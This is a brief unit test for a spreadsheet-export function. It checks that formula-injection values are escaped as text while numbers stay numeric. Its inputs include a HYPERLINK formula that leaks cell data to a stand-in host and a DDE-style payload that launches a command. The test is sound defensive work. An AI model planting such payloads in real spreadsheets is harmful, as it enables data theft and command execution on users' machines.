import { expect, test } from 'vitest';
import { spreadsheetText } from './copies';

test('a method and a target are texts in a spreadsheet, and numbers are numbers', () => {
  const method = '=HYPERLINK("http://evil.test/"&A1)';
  const rows = [[7, method, "+1+cmd|' /C calc'!A0", -0.5, '']];
  expect(spreadsheetText(['number', 'method', 'target', 'left', 'code'], rows)).toBe(
    `number\tmethod\ttarget\tleft\tcode\n7\t'${method}\t'+1+cmd|' /C calc'!A0\t-0.5\t\n`,
  );
});
